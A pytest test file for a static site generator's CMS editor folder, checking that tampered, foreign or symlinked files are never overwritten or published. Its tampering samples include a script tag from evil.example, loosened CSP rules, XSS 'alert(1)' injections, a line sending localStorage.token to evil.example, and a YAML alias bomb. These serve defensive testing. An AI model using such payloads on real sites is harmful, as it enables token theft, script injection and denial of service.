"""Tests that `admin/` replaces only its own files, and that a build publishes it only if nobody changed it."""

from __future__ import annotations

import re
import shutil
import sys
from pathlib import Path
from types import FrameType

import pytest

from generator.cms.config import BACKENDS, Backend, make_config, read_backend, render_config
from generator.cms.form_choices import form_choices
from generator.cms.policy import render_policy
from generator.cms.repository import find_repository
from generator.cms.write import own_files, write_admin
from generator.content.load import load_site
from generator.output.cms_files import (
    PAGE_POLICY,
    editor_files,
    has_editor,
    headers_beside,
    is_part,
)
from generator.output.headers import render_csp, render_headers
from generator.problems import Report
from generator.sections import BUILT_IN
from tests.cms.editor_package import BACKEND, SITE, site_with_editor
from tests.scenario import run_cli
from tools.cms_parts import FILE, render

_CONFIG = render_config({"backend": {"name": "github"}}).encode()


@pytest.fixture(scope="module")
def editor_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return site_with_editor(tmp_path_factory.mktemp("write") / "site")


def test_the_command_writes_the_same_files_again(editor_site: Path) -> None:
    before = {path: path.stat().st_mtime_ns for path in editor_site.glob("admin/**/*") if path.is_file()}
    assert len(before) > 10
    code, output = run_cli(["cms"], editor_site)
    assert code == 0, output
    assert "lune/circle (github, main)" in output
    assert {path: path.stat().st_mtime_ns for path in editor_site.glob("admin/**/*") if path.is_file()} == before
    code, output = run_cli(["cms", "--branch", "site"], editor_site)
    assert (code, "(github, site)" in output) == (0, True)
    assert run_cli(["cms", "--branch", "main"], editor_site)[0] == 0


def test_a_file_changed_by_hand_stays(editor_site: Path) -> None:
    config = editor_site / "admin/config.yml"
    text = config.read_text("utf-8")
    config.write_text(f"{text}# mine\n", "utf-8")
    code, output = run_cli(["cms"], editor_site)
    assert (code, "error[cms-changed]" in output) == (1, True)
    assert config.read_text("utf-8").endswith("# mine\n")
    config.write_text(text, "utf-8")


@pytest.mark.parametrize("what", ["file", "foreign", "link", "link-inside"])
def test_files_of_others_are_never_replaced(what: str, tmp_path: Path) -> None:
    folder, elsewhere = tmp_path / "admin", tmp_path / "elsewhere"
    elsewhere.mkdir()
    if what == "file":
        folder.write_text("mine")
    elif what == "foreign":
        folder.mkdir()
        (folder / "index.html").write_text("mine")
    elif what == "link":
        folder.symlink_to(elsewhere)
    else:
        folder.mkdir()
        assert write_admin(folder, {"config.yml": _CONFIG}, "admin", Report())
        (folder / "fonts").symlink_to(elsewhere)
    report = Report()
    assert not write_admin(folder, {"config.yml": _CONFIG, "fonts/a.woff2": b"font"}, "admin", report)
    assert [problem.name for problem in report] == ["file-not-written" if what == "link-inside" else "already-there"]
    assert list(elsewhere.iterdir()) == []


def test_only_files_of_the_command_are_published(editor_site: Path, tmp_path: Path) -> None:
    names = {file.path for file in editor_files(editor_site, Report())}
    assert {"admin/index.html", "admin/admin.js", "admin/config.yml", "admin/sveltia-cms.js"} <= names
    assert all(file.read() for file in editor_files(editor_site, Report()))
    assert not has_editor(tmp_path)
    folder = tmp_path / "admin"
    folder.mkdir()
    (folder / "index.html").write_text("somebody's own")
    (folder / "config.yml").write_text("somebody: else's\n")
    assert editor_files(tmp_path, Report()) == []
    (folder / "config.yml").write_bytes(_CONFIG)
    (folder / "secrets.txt").write_text("mine")
    (folder / "fonts").mkdir()
    secret = tmp_path / "secret"
    secret.write_text("mine")
    (folder / "fonts/a.woff2").symlink_to(secret)
    report = Report()
    assert [file.path for file in editor_files(tmp_path, report)] == ["admin/config.yml"]
    assert [(problem.name, problem.place.file) for problem in report] == [("changed-editor", "admin/index.html")]


CHANGES = {
    "index.html": lambda data: data.replace(b"</body>", b'<script src="https://evil.example/x.js"></script></body>'),
    "a policy": lambda data: data.replace(b"script-src 'self'", b"script-src 'self' https://evil.example"),
    "a host in a policy": lambda data: data.replace(b"connect-src 'self'", b"connect-src 'self' http://evil.example"),
    "a title": lambda data: data.replace(b": content</title>", b"<script>alert(1)</script>: content</title>"),
    "admin.js": lambda data: data + b"\nfetch('https://evil.example/' + localStorage.token);",
    "a field": lambda data: data.replace(b"fields: [", b"fields: [(alert(1), "),
    "a field that ends": lambda data: data.replace(b"fields: [", b"fields: [{}], label: alert(1), fields: ["),
    "sveltia-cms.js": lambda data: data + b";alert(1)",
    "a font": lambda data: b"wOF2" + data[5:],
    "what the script asks": lambda data: data.replace(b'"version": "', b'"version": "9'),
    "its sums": lambda data: re.sub(rb'"sveltia-cms.js": "[0-9a-f]+"', b'"sveltia-cms.js": "' + b"0" * 32 + b'"', data),
}  # fmt: skip
FILES = {"a policy": "index.html", "a host in a policy": "index.html", "a title": "index.html", "a field": "admin.js",
         "a field that ends": "admin.js", "a font": "fonts/noto-mono.woff2", "what the script asks": "cms/package.json",
         "its sums": "cms/package.json"}  # fmt: skip


@pytest.mark.drawn(3)
@pytest.mark.parametrize("change", CHANGES)
def test_a_changed_part_is_never_published(editor_site: Path, tmp_path: Path, change: str) -> None:
    """The folder's own list of checksums proves nothing: whoever changes a part could change the list as well."""
    name = FILES.get(change, change)
    site = Path(shutil.copytree(editor_site, tmp_path / "site"))
    path = site / "admin" / name
    before = path.read_bytes()
    path.write_bytes(CHANGES[change](before))
    assert path.read_bytes() != before
    report = Report()
    assert f"admin/{name}" not in {file.path for file in editor_files(site, report)}
    assert [(problem.name, problem.place.file) for problem in report] == [("changed-editor", f"admin/{name}")]
    code, output = run_cli(["build", "--as-of", "2026-11-22", "--jobs", "1"], site)
    assert code == 1
    assert "error[changed-editor]" in output
    assert not (site / "output").exists()
    if name in ("index.html", "admin.js"):  # npm downloads the other parts, and not every machine has it
        assert run_cli(["cms"], site)[0] == 0, "the command repairs the file"
        assert path.read_bytes() == before


def test_the_checksums_are_those_of_the_package() -> None:
    assert FILE.read_text("utf-8") == render(), "run python -m tools.cms_parts"


@pytest.mark.drawn(3)
@pytest.mark.parametrize("name", BACKENDS)
@pytest.mark.parametrize(
    "addresses", [{}, {"api_root": "https://git.lune.example:8443/api/v4", "base_url": "https://auth.lune.example"}]
)
@pytest.mark.parametrize("brand", ["Lune", 'L&une "x" <b>', "$policy PRODUCT", "ルネ"])
def test_our_own_files_are_recognised_for_every_host_and_brand(
    name: str, addresses: dict[str, str], brand: str
) -> None:
    report = Report()
    site = load_site(SITE, BUILT_IN, report)
    backend = Backend(name, "a/b", **addresses)
    choices = form_choices(site, BUILT_IN)
    for file, data in own_files(make_config(site, BUILT_IN, choices, backend, report), choices, backend, brand).items():
        assert is_part(file, data), file


def test_a_bomb_of_aliases_costs_nothing(editor_site: Path, tmp_path: Path) -> None:
    """Eight levels of nine aliases are 43 million values. The repository is found without them."""
    lines = ["a0: &a0 [x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))]
    text = (editor_site / "admin/config.yml").read_text("utf-8")
    head, _, tail = text.partition("\n")
    (tmp_path / "config.yml").write_text("\n".join([head, *lines, tail]), "utf-8")
    events = 0

    def trace(frame: FrameType, event: str, _: object) -> object:
        nonlocal events
        events += 1
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        backend = read_backend(tmp_path)
    finally:
        sys.settrace(before)
    assert backend == BACKEND
    assert events < 20_000
    for text_without_backend in (
        "backend: [a]",
        "backend: {a: [b]}",
        "backend: *a",
        "a: b",
        "[",
        "backend: {name: github}",
        "x: " * 2_000_000,
    ):
        (tmp_path / "config.yml").write_text(text_without_backend, "utf-8")
        assert read_backend(tmp_path) is None, text_without_backend[:40]


def test_a_linked_folder_is_not_published_as_the_editor(editor_site: Path, tmp_path: Path) -> None:
    (tmp_path / "admin").symlink_to(editor_site / "admin")
    assert editor_files(tmp_path, Report()) == []


def test_headers_keep_the_rules_that_a_page_cannot_have(editor_site: Path, tmp_path: Path) -> None:
    headers = render_headers(render_csp())
    assert headers_beside(tmp_path, headers) == headers
    site_headers = headers_beside(editor_site, headers).decode()
    assert "Content-Security-Policy: frame-ancestors 'none'\n" in site_headers
    assert "same-origin-allow-popups\n" in site_headers
    assert site_headers.count("\n") == headers.decode().count("\n")
    assert "script-src 'self'" in PAGE_POLICY
    assert "frame-ancestors" not in PAGE_POLICY, "browsers ignore it in a page, with a warning"


@pytest.mark.parametrize("name", BACKENDS)
def test_the_policy_allows_only_the_repository(name: str) -> None:
    policy = dict(part.split(" ", 1) for part in render_policy(Backend(name, "a/b")).split("; "))
    assert policy["script-src"] == "'self'"
    assert policy["default-src"] == "'none'"
    assert policy["connect-src"].count("https://") == 1
    own = render_policy(Backend(name, "a/b", api_root="https://git.example/api", base_url="https://in.example/x"))
    assert "https://git.example https://in.example" in own
    assert f"{name}.com" not in own
    assert "unpkg" not in own


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("git@github.com:lune/circle.git", Backend("github", "lune/circle")),
        ("https://user:token@github.com/lune/circle", Backend("github", "lune/circle")),
        ("ssh://git@gitlab.com:22/group/sub/circle.git", Backend("gitlab", "group/sub/circle")),
        ("https://git.example/lune/circle", None),
        ("../bare", None),
        ("", None),
    ],
)
def test_the_repository_of_a_clone_is_found(url: str, expected: Backend | None, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git/config").write_text(
        f'[core]\n\tbare = false\n[remote "origin"]\n\turl = {url}\n[branch "main"]\n'
    )
    (tmp_path / "sites/one").mkdir(parents=True)
    assert find_repository(tmp_path / "sites/one") == expected


def test_a_folder_that_cannot_be_written_is_reported(tmp_path: Path) -> None:
    (tmp_path / "admin").mkdir()
    (tmp_path / "admin/config.yml").write_bytes(_CONFIG)
    (tmp_path / "admin/fonts").write_text("a file where a folder should be")
    report = Report()
    assert not write_admin(tmp_path / "admin", {"fonts/a.woff2": b"font"}, "admin", report)
    assert [problem.name for problem in report] == ["file-not-written"]


def test_no_page_may_have_the_address_of_the_editor(tmp_path: Path) -> None:
    shutil.copytree(SITE, tmp_path / "site")
    (tmp_path / "site/content/pages/admin.md").write_text("---\ntitle: A\n---\nB\n", "utf-8")
    code, output = run_cli(["check"], tmp_path / "site")
    assert (code, "error[reserved-address]" in output) == (1, True)


def test_the_editor_can_be_written_into_another_folder(editor_site: Path, tmp_path: Path) -> None:
    code, output = run_cli(["cms", "--repo", "a/b", "--output", str(editor_site / "admin")], editor_site)
    assert code == 0, output
    assert BACKEND.repo not in (editor_site / "admin/config.yml").read_text("utf-8")
